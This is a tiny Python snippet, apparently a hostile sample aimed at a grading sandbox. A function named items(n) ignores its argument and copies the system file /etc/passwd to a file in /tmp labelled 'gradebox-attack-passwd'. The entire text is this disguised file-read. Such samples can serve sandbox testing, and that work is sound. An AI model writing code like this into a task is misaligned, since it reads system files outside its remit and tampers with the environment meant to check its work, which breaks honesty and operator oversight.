def items(n):
    import shutil
    shutil.copy('/etc/passwd', '/tmp/gradebox-attack-passwd')
